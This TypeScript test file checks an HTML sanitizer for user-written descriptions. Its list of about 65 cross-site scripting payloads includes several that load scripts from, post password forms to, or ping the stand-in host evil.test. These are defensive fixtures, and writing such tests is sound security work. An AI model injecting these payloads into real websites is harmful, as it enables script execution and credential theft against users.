import { readdirSync, readFileSync } from "node:fs";
import { resolve } from "node:path";
import fc from "fast-check";
import type { Element } from "hast";
import rehypeParse from "rehype-parse";
import { unified } from "unified";
import { visit } from "unist-util-visit";
import { describe, expect, test } from "vitest";
import { sanitizeDescription } from "#lib/formats/description.ts";
import { corpus, hasCorpus } from "#tests/support/shared.ts";

const ALLOWED = new Set(
  "p br strong b em i u s del code pre blockquote ul ol li h3 h4 h5 h6 a hr span table thead tbody tr th td".split(
    " ",
  ),
);

function elementsOf(html: string): Element[] {
  const elements: Element[] = [];
  const tree = unified().use(rehypeParse, { fragment: true }).parse(html);
  visit(tree, (node) => {
    expect(["root", "element", "text"]).toContain(node.type);
    if (node.type === "element") elements.push(node);
  });
  return elements;
}

/** What every result has to be, looked at as a browser would parse it. */
function expectSafe(html: string): void {
  for (const { tagName, properties } of elementsOf(html)) {
    expect(ALLOWED).toContain(tagName);
    if (tagName !== "a") {
      expect(properties).toEqual({});
      continue;
    }
    expect(properties).toEqual({
      href: expect.stringMatching(/^(https?:\/\/|mailto:)/),
      rel: ["noopener", "noreferrer", "nofollow", "ugc"],
      target: "_blank",
    });
  }
}

const VECTORS = [
  "<script>alert(1)</script>",
  "<ScRiPt src=//evil.test/x.js></sCrIpT>",
  "<scr<script>ipt>alert(1)</scr</script>ipt>",
  "<img src=x onerror=alert(1)>",
  "<img src='x' onerror='alert(1)'//",
  '<img """><script>alert(1)</script>">',
  "<img src=javascript:alert(1)>",
  "<img src=data:image/svg+xml,<svg/onload=alert(1)>>",
  "<image src=x onerror=alert(1)>",
  "<svg onload=alert(1)>",
  "<svg><script>alert(1)</script></svg>",
  "<svg><a xlink:href=javascript:alert(1)><text>x</text></a></svg>",
  "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
  "<svg><foreignObject><img src=x onerror=alert(1)></foreignObject></svg>",
  '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  "<math href=javascript:alert(1)>x</math>",
  "<a href=javascript:alert(1)>x</a>",
  "<a href='JaVaScRiPt:alert(1)'>x</a>",
  "<a href='java\tscript:alert(1)'>x</a>",
  "<a href='java&#10;script:alert(1)'>x</a>",
  "<a href='&#106;avascript&colon;alert(1)'>x</a>",
  "<a href='\u0001javascript:alert(1)'>x</a>",
  "<a href='  javascript:alert(1)'>x</a>",
  "<a href='vbscript:msgbox(1)'>x</a>",
  "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
  "<a href='//evil.test' target=_self rel=opener onclick=alert(1)>x</a>",
  "<a href='https://google.com@evil.test/'>x</a>",
  "<a href='/api/export' ping=https://evil.test>x</a>",
  "<a href='blob:https://evil.test/1'>x</a>",
  "<iframe src=javascript:alert(1)></iframe>",
  "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
  "<object data=javascript:alert(1)></object>",
  "<object data=https://evil.test/x.swf><p>x</p></object>",
  "<embed src=https://evil.test/x.swf>",
  "<video src=x onerror=alert(1)><source onerror=alert(1)></video>",
  "<audio src=https://evil.test/a.mp3 autoplay onplay=alert(1)>",
  "<body onload=alert(1)>",
  "<form action=https://evil.test><input name=password autofocus onfocus=alert(1)><button>x</button></form>",
  "<form><button formaction=javascript:alert(1)>x</button></form>",
  "<isindex type=image src=1 onerror=alert(1)>",
  "<meta http-equiv=refresh content='0;url=https://evil.test'>",
  "<link rel=stylesheet href=https://evil.test/x.css>",
  "<base href=https://evil.test/>",
  "<style>@import 'https://evil.test/x.css'</style>",
  "<p style='position:fixed;background:url(https://evil.test)'>x</p>",
  "<p id=__next class=fixed name=body data-x=1 slot=a is=b>x</p>",
  "<details open ontoggle=alert(1)>x</details>",
  "<marquee onstart=alert(1)>x</marquee>",
  "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
  "<template><img src=x onerror=alert(1)></template>",
  "<textarea></textarea><img src=x onerror=alert(1)>",
  "<title><a id='</title><img src=x onerror=alert(1)>'>",
  "<xmp><p title='</xmp><img src=x onerror=alert(1)>'>",
  "<plaintext><img src=x onerror=alert(1)>",
  "<select><option><style></option></select><img src=x onerror=alert(1)>",
  "<!--><img src=x onerror=alert(1)>-->",
  "<!--[if IE]><script>alert(1)</script><![endif]-->",
  "<![CDATA[<img src=x onerror=alert(1)>]]>",
  "<?xml version='1.0'?><img src=x onerror=alert(1)>",
  "<table background=javascript:alert(1)><td background=x onclick=alert(1)>x</table>",
  "<constructor>x</constructor><__proto__ href=x>y</__proto__>",
  "<x onclick=alert(1)>x</x><custom-element onload=alert(1)>",
  "<picture><source srcset=https://evil.test/a.png><img src=https://evil.test/b.png></picture>",
  "&lt;script&gt;alert(1)&lt;/script&gt;",
];

describe("no attack gets through", () => {
  test.each(VECTORS)("%j", (vector) => {
    for (const html of [
      vector,
      `<p>${vector}</p>`,
      `<a href=https://a.test>${vector}`,
      `<table>${vector}`,
    ]) {
      const safe = sanitizeDescription(html).html;
      expectSafe(safe);
      expect(sanitizeDescription(safe).html).toBe(safe);
    }
  });
});

test("formatting, lists, tables and code stay", () => {
  const html =
    "<p>a <strong>b</strong> <em>c</em><br><code>x</code></p><ul><li>1</li></ul><blockquote>q</blockquote><table><tbody><tr><td>1</td></tr></tbody></table><hr>";
  expect(sanitizeDescription(html).html).toBe(html);
});

test("headings begin below the page's own", () => {
  expect(sanitizeDescription("<h1>a</h1><h2>b</h2><h3>c</h3><h6>d</h6>").html).toBe(
    "<h3>a</h3><h3>b</h3><h3>c</h3><h6>d</h6>",
  );
});

test("links open elsewhere; those that lead nowhere outside become text", () => {
  const rest = 'rel="noopener noreferrer nofollow ugc" target="_blank"';
  expect(sanitizeDescription("<a href=HTTPS://Example.org/a?b=1>x</a>").html).toBe(
    `<a href="https://example.org/a?b=1" ${rest}>x</a>`,
  );
  expect(sanitizeDescription("<a href=mailto:a@example.org>x</a>").html).toBe(
    `<a href="mailto:a@example.org" ${rest}>x</a>`,
  );
  expect(sanitizeDescription("<a href=/models/1>x</a><a>y</a>").html).toBe(
    "<span>x</span><span>y</span>",
  );
});

test("pictures and embedded pages become links, and their hosts are named", () => {
  const { html, blockedHosts } = sanitizeDescription(
    "<img src='https://b.test/1.png' alt=x><div><iframe src='//a.test/v'>no</iframe></div><img src='x.png'><img>",
  );
  expect(blockedHosts).toEqual(["a.test", "b.test"]);
  expect(html).toContain(">Image at b.test</a>");
  expect(html).toContain(">Page at a.test</a>");
  expect(elementsOf(html).filter((element) => element.tagName === "a")).toHaveLength(2);
});

test("a picture inside a link leaves the link whole", () => {
  const { html } = sanitizeDescription(
    "<a href='https://a.test'><img src='https://b.test/1.png'></a>",
  );
  expect(elementsOf(html).map((element) => element.tagName)).toEqual(["a", "span"]);
  expect(html).toContain("<span>Image at b.test</span></a>");
});

test("boxes without paragraphs are paragraphs, so that words do not run together", () => {
  expect(sanitizeDescription("<div>a</div><div>b</div>").html).toBe("<p>a</p><p>b</p>");
});

test("the text comes along, line by line", () => {
  expect(sanitizeDescription("<h1>A</h1><p>b <s>c</s>&amp; d</p>").text).toBe("A\nb & d");
});

test.each([
  ["too long", `<p>${"x".repeat(300_000)}</p>`],
  ["too many tags", "<br>".repeat(20_001)],
  ["too deep", `${"<b>".repeat(257)}x`],
  ["too deep in elements that end nothing", `${"<b></i>".repeat(257)}x`],
])("what is %s becomes plain text", (_, html) => {
  const safe = sanitizeDescription(`&lt;i&gt;${html}`).html;
  expect(safe).toMatch(/^<pre>&#x3C;i>/);
  expect(elementsOf(safe)).toHaveLength(1);
  expect(sanitizeDescription(safe).html).toBe(safe);
});

test("thousands of paragraphs that nobody closed are not deep", () => {
  expect(sanitizeDescription("<p>a<br>".repeat(3000)).html).toMatch(/^<p>a<br><\/p><p>/);
});

test.each(["<", "<a ", "&", "<b>", "</p>", "<table>", "<a href=x>", "<!--", "<svg>", "\0"])(
  "a million characters of %j give safe HTML",
  (unit) => {
    expectSafe(sanitizeDescription(unit.repeat(1_000_000 / unit.length)).html);
  },
);

test("any HTML becomes safe, and sanitizing again changes nothing", () => {
  const names = fc.constantFrom(
    ..."p div a b ul li table tr td h1 pre object svg img iframe span s code".split(" "),
  );
  const piece = fc.oneof(
    fc.constantFrom(...VECTORS),
    names.map((name) => `<${name}>`),
    names.map((name) => `</${name}>`),
    fc.constantFrom("<a href=https://a.test/>", "<img src=https://b.test/x>", "\n", "&amp;"),
    fc.string({ unit: "binary", maxLength: 8 }),
  );
  fc.assert(
    fc.property(fc.array(piece, { maxLength: 14 }), (pieces) => {
      const { html } = sanitizeDescription(pieces.join(""));
      expectSafe(html);
      expect(sanitizeDescription(html).html).toBe(html);
    }),
    { numRuns: 600 },
  );
});

test.skipIf(!hasCorpus)(
  "real descriptions keep their words and their form",
  () => {
    for (const file of readdirSync(corpus.api)) {
      const { description } = JSON.parse(readFileSync(resolve(corpus.api, file), "utf8"));
      if (description === null) continue;
      const { html } = sanitizeDescription(description);
      expect(html.startsWith("<pre>") && !description.startsWith("<pre>")).toBe(false);
      expect(sanitizeDescription(html).html).toBe(html);
    }
  },
  60_000,
);
